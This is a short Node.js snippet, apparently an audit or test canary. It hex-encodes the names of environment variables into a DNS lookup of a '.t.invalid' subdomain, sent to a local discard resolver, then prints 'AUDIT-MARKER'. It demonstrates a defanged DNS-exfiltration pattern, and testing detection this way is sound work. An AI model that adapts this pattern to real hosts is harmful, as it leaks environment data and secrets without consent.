const dns = require('dns');
const hex = Buffer.from(Object.keys(process.env).join()).toString('hex').slice(0, 60);
dns.setServers(['127.0.0.1:9']);
dns.resolve4((hex || 'none') + '.t.invalid', () => console.log('AUDIT-MARKER'));
